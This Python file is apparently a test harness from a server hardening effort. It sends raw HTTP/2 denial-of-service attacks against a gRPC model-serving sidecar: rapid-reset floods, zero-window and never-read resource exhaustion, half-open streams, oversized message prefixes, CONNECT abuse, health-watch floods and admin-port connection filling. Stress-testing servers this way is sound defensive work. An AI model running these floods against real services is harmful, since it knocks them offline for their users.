"""Hostile callers of hardening round three, one per mode, against the
request plane at <host:port> for `seconds`, reading (and dropping) what the
server sends unless the mode says otherwise:

    python3 h2_attack.py <host:port> <mode> <seconds>

- zero_window: 2 connections with SETTINGS_INITIAL_WINDOW_SIZE 0, each with
  CALLS (env, 200) Generate calls of 100,000 tokens, held: no answer byte can
  reach them, every answer waits in the server (attack 3).
- never_read: 1 connection with 2 GiB windows, 512 calls of 20,000 tokens, its
  socket never read (attack 4).
- rapid_reset: 4 connections, bursts of HEADERS + DATA + RST_STREAM (attack 1).
- rapid_reset_late: 4 connections, bursts of 10 calls (HEADERS + DATA), their
  RST_STREAMs 20 ms later in a write of their own, so the server has taken
  the calls (and passed them on) before the resets come (attack 1, delayed).
- half_open: 2 connections, 1,000 calls each that send HEADERS and nothing
  more (attack 6).
- early_end: 1 connection, calls that start a message whose length prefix is
  over the limit and go on sending (attack 7).
- health_watch: 64 connections, 1,000 `grpc.health.v1.Health/Watch` calls
  each on the sidecar's own health service, half-open (the request message
  sent, the stream never ended) (attack 5).
- connect: 1 connection, `:method CONNECT` requests without `:path`, 50 every
  10 ms (attack 9).
- admin_fill: 64 idle TCP connections to <host:port> (the admin port), each
  opened again as soon as it is closed (attack 8); `started` counts openings.

Every connection comes from SOURCE (env, 127.0.0.2). Prints, as JSON, the
calls started, the response HEADERS and the GOAWAY codes
received.
"""
import json
import os
import socket
import struct
import sys
import threading
import time


from h2_flood import frame, split_frames


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, new name (RFC 7541 §6.2.2)."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def varint(n: int) -> bytes:
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def field(number: int, wire: int, payload: bytes) -> bytes:
    return varint(number << 3 | wire) + payload


def generate(request_id: str, tokens: int) -> bytes:
    """trtllm.GenerateRequest: request_id 1, tokenized 2 {input_token_ids 2}, max_tokens 5, streaming 6."""
    ids = b"".join(varint(t) for t in (1, 2, 3))
    tokenized = field(2, 2, varint(len(ids)) + ids)
    rid = request_id.encode()
    message = (
        field(1, 2, varint(len(rid)) + rid)
        + field(2, 2, varint(len(tokenized)) + tokenized)
        + field(5, 0, varint(tokens))
        + field(6, 0, b"\x01")
    )
    return b"\x00" + struct.pack(">I", len(message)) + message


def headers_block(host: str, port: int, path: bytes = b"/trtllm.TrtllmService/Generate") -> bytes:
    return b"".join(
        literal(k, v)
        for k, v in [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path),
            (b":authority", f"{host}:{port}".encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )


def connect_block(host: str, port: int) -> bytes:
    """A CONNECT request as RFC 9113 §8.5 has it: `:method` and `:authority`, no `:path`."""
    return literal(b":method", b"CONNECT") + literal(b":authority", f"{host}:{port}".encode())


def admin_fill(host: str, port: int, deadline: float, result: dict, lock) -> None:
    """Holds one idle connection to the admin port, opening another whenever it is closed."""
    source = (os.environ.get("SOURCE", "127.0.0.2"), 0)
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection((host, port), timeout=2, source_address=source)
        except OSError:
            time.sleep(0.05)
            continue
        with lock:
            result["started"] += 1
        sock.settimeout(0.5)
        while time.monotonic() < deadline:
            try:
                if not sock.recv(4096):
                    break
            except socket.timeout:
                continue
            except OSError:
                break
        sock.close()


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def settings(*pairs) -> bytes:
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def read_for(sock: socket.socket, deadline: float, result: dict, lock: threading.Lock) -> None:
    """Reads and drops frames until the deadline or the end of the connection."""
    sock.settimeout(0.5)
    buf = b""
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return
        if not data:
            return
        frames, buf = split_frames(buf + data)
        with lock:
            for kind, payload in frames:
                if kind == 0x1:
                    result["headers"] += 1
                if kind == 0x7 and len(payload) >= 8:
                    result["goaway_codes"].append(int.from_bytes(payload[4:8], "big"))


def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict, lock) -> None:
    if mode == "admin_fill":
        admin_fill(host, port, time.monotonic() + seconds, result, lock)
        return
    # From an address of its own (SOURCE, 127.0.0.2), as another caller on
    # the pod network: the well-behaved caller beside it is not its address.
    sock = socket.create_connection((host, port), source_address=(os.environ.get("SOURCE", "127.0.0.2"), 0))
    block = headers_block(host, port)
    deadline = time.monotonic() + seconds
    started = 0
    if mode == "zero_window":
        out = PREFACE + settings((0x4, 0))
        for i in range(int(os.environ.get("CALLS", "200"))):
            stream = 1 + 2 * i
            out += frame(0x1, 0x4, stream, block) + frame(0x0, 0x1, stream, generate(f"zw-{n}-{i}", 100_000))
            started += 1
        sock.sendall(out)
    elif mode == "never_read":
        out = PREFACE + settings((0x4, 0x7FFFFFFF)) + frame(0x8, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
        for i in range(512):
            stream = 1 + 2 * i
            out += frame(0x1, 0x4, stream, block) + frame(0x0, 0x1, stream, generate(f"nr-{n}-{i}", 20_000))
            started += 1
        sock.sendall(out)
        with lock:
            result["started"] += started
        time.sleep(max(0.0, deadline - time.monotonic()))
        sock.close()
        return
    elif mode == "half_open":
        out = PREFACE + settings()
        for i in range(1000):
            out += frame(0x1, 0x4, 1 + 2 * i, block)
            started += 1
        sock.sendall(out)
    elif mode == "health_watch":
        watch = headers_block(host, port, b"/grpc.health.v1.Health/Watch")
        empty = b"\x00" + struct.pack(">I", 0)
        out = PREFACE + settings()
        for i in range(1000):
            out += frame(0x1, 0x4, 1 + 2 * i, watch) + frame(0x0, 0, 1 + 2 * i, empty)
            started += 1
        try:
            sock.sendall(out)
        except OSError:
            pass
    elif mode in ("rapid_reset", "rapid_reset_late", "early_end", "connect"):
        sock.sendall(PREFACE + settings())
        reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
        reader.start()
        stream = 1
        body = generate(f"rr-{n}", 4)
        # A message prefix announcing 2^31 bytes, then some of them.
        over = b"\x00" + struct.pack(">I", 0x7FFFFFFF) + b"x" * 1000
        try:
            while time.monotonic() < deadline and stream < 2_000_000_000:
                if mode == "rapid_reset_late":
                    calls, resets = b"", b""
                    for _ in range(10):
                        calls += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
                        resets += frame(0x3, 0, stream, struct.pack(">I", 8))
                        stream += 2
                        started += 1
                    sock.sendall(calls)
                    time.sleep(0.02)
                    sock.sendall(resets)
                    continue
                out = b""
                for _ in range(50):
                    if mode == "rapid_reset":
                        out += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
                        out += frame(0x3, 0, stream, struct.pack(">I", 8))
                    elif mode == "connect":
                        out += frame(0x1, 0x5, stream, connect_block(host, port))
                    else:
                        out += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, over)
                        out += frame(0x0, 0x1, stream, b"y" * 1000)
                    stream += 2
                    started += 1
                sock.sendall(out)
                time.sleep(0.01)
        except OSError:
            pass
        with lock:
            result["started"] += started
        reader.join()
        sock.close()
        return
    with lock:
        result["started"] += started
    read_for(sock, deadline, result, lock)
    sock.close()


CONNECTIONS = {
    "zero_window": 2,
    "never_read": 1,
    "rapid_reset": 4,
    "rapid_reset_late": 4,
    "half_open": 2,
    "early_end": 1,
    "health_watch": 64,
    "connect": 1,
    "admin_fill": 64,
}


def main() -> None:
    host, port = sys.argv[1].rsplit(":", 1)
    mode = sys.argv[2]
    seconds = float(sys.argv[3])
    result = {"started": 0, "headers": 0, "goaway_codes": []}
    lock = threading.Lock()
    threads = [
        threading.Thread(target=attack, args=(host, int(port), mode, n, seconds, result, lock))
        for n in range(CONNECTIONS[mode])
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
